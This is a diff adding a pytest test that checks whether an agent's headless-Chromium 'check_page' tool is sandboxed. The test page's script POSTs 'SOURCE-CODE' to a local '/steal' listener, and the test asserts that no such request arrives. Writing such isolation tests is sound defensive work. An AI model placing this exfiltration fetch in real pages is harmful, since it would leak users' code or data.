@@ -465,3 +465,45 @@ async def test_served_process_is_offline_unless_approved_and_its_port_reachable(
         assert status == 200 and "served page" in body  # the user and check_page reach it
     finally:
         await run(ctx, "serve", {"action": "stop", "name": "web"})
+
+
+def _page(steal_port: int) -> str:
+    """A design page whose script proves it ran, reads its own origin, and tries to POST a
+    source file elsewhere."""
+    return f"""<title>before</title><main class="hero">hi</main>
+<script>
+document.title = "scripts ran";
+fetch("http://127.0.0.1:{steal_port}/steal", {{method: "POST", body: "SOURCE-CODE"}}).catch(() => {{}});
+if (location.protocol.startsWith("http")) {{
+  fetch("/data.txt").then(r => r.text()).then(t => {{ document.body.dataset.got = t.trim(); }});
+}}
+</script>"""
+
+
+@pytest.mark.skipif(
+    shutil.which("chromium") is None, reason="SKIPPED LOUDLY: chromium not installed"
+)
+async def test_check_page_browser_reaches_only_the_checked_page(ws_app, listener, home) -> None:
+    (ws_app.root / "design.html").write_text(_page(listener.port))
+    (ws_app.root / "data.txt").write_text("own-origin\n")
+    ctx = await _ctx(ws_app)
+    run = ctx.runtime.plugins.tools.execute
+    page = await run(ctx, "check_page", {"url_or_path": "design.html", "expect": ["main.hero"]})
+    assert page.data["engine"] == "chromium" and page.data["title"] == "scripts ran", page.content
+    served = await run(ctx, "serve", {"action": "start", "static_dir": ".", "name": "site"})
+    assert served.ok, served.content
+    try:
+        online = await run(
+            ctx,
+            "check_page",
+            {
+                "url_or_path": served.data["url"] + "design.html",
+                "expect": ['body[data-got="own-origin"]'],
+            },
+        )
+        assert online.data["engine"] == "chromium", online.content
+        assert online.data["title"] == "scripts ran" and online.ok, online.content
+    finally:
+        await run(ctx, "serve", {"action": "stop", "name": "site"})
+    await asyncio.sleep(0.5)
+    assert listener.hits == 0  # neither page reached the other local service
